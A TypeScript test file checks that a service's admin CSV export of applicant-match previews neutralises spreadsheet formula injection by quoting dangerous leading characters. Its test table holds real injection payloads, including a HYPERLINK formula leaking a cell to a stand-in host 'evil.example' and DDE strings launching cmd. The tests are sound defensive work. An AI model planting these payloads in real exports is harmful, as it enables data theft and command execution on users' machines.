import { parse } from 'csv-parse/sync';
import { PREVIEW_STATUS, SEED_ORGANISATIONS, type SandboxSeed } from '../../../sandbox';
import { aCompleteCheckSet, aTracApplicant, anEsrApplicant } from '../../../sandbox/seed-builders';
import { createPreviewStore } from '../../../src/store/preview-store';
import { asCaller, SUPPORT } from '../../helpers/admin';
import { withPreviewHarness } from '../../helpers/preview';
import { withSandboxes } from '../../helpers/sandbox';

/** One R0A doctor in training whose Trac applicant id begins with `-`, matched by one ESR record. */
const MINUS_ID = '-100499';
const SEED: SandboxSeed = {
  trac: {
    applicants: [
      aTracApplicant({
        applicantId: MINUS_ID,
        organisationCode: 'R0A',
        person: { forename: 'Nia', surname: 'Adebayo', dateOfBirth: '1994-02-11' },
        checks: aCompleteCheckSet(100499),
        status: PREVIEW_STATUS,
      }),
    ],
  },
  esr: {
    organisations: SEED_ORGANISATIONS,
    applicants: [
      anEsrApplicant({
        esrApplicantId: '4418499',
        organisationCode: 'R0A',
        firstName: 'NIA',
        lastName: 'ADEBAYO',
        dateOfBirth: '1994-02-11',
      }),
    ],
  },
};

const sandboxes = withSandboxes({ seed: SEED });
const h = withPreviewHarness(() => ({ tracUrl: sandboxes.tracUrl, esrUrl: sandboxes.esrUrl }));

/** The CSV as a spreadsheet reads it: one array of cells per row, the header first. */
async function csvRowsOf(previewId: string): Promise<string[][]> {
  const answer = await asCaller(h.t, SUPPORT).get(`/admin/match-previews/${previewId}.csv`);
  expect(answer.status).toBe(200);
  return parse(answer.text, { relax_column_count: false });
}

describe('the match preview CSV never holds a cell a spreadsheet would run as a formula', () => {
  it('when a Trac applicant id begins with -, then its cell comes back with a leading quote, the rest as is', async () => {
    const preview = await h.waitUntilFinished(
      await h.start({ organisationCode: 'R0A', statuses: [PREVIEW_STATUS] }),
    );
    expect(preview.items.map((item) => item.applicantId)).toEqual([MINUS_ID]);

    const rows = await csvRowsOf(preview.previewId);

    expect(rows).toEqual([
      ['applicantId', 'result', 'hints', 'esrApplicantIds'],
      [`'${MINUS_ID}`, 'MATCHED', '', '4418499'],
    ]);
  });

  it.each([
    ['=', '=HYPERLINK("https://evil.example/?x="&A1,"Open")'],
    ['+', "+1+cmd|' /C calc'!A0"],
    ['-', '-2+3'],
    ['@', '@SUM(1+1)|cmd'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ])(
    'when stored cells begin with %s (an applicant id, ESR ids), then each comes back starting with a quote, nothing lost',
    async (_what, dangerous) => {
      const store = createPreviewStore(h.t.redis, h.t.prefix);
      const previewId = await store.create(
        { organisationCode: 'R0A', statuses: [], changedSince: null },
        new Date(),
      );
      await store.saveItem(previewId, {
        applicantId: dangerous,
        result: 'AMBIGUOUS_ESR_MATCH',
        hints: ['SEVERAL_ACTIVE_RECORDS'],
        esrApplicantIds: [dangerous, '4418417'],
      });
      await store.saveItem(previewId, {
        applicantId: 'A-100400',
        result: 'MATCHED',
        hints: [],
        esrApplicantIds: ['4418400'],
      });

      const rows = await csvRowsOf(previewId);

      expect(rows).toContainEqual([
        `'${dangerous}`,
        'AMBIGUOUS_ESR_MATCH',
        'SEVERAL_ACTIVE_RECORDS',
        `'${dangerous};4418417`,
      ]);
      expect(rows).toContainEqual(['A-100400', 'MATCHED', '', '4418400']);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    },
  );
});
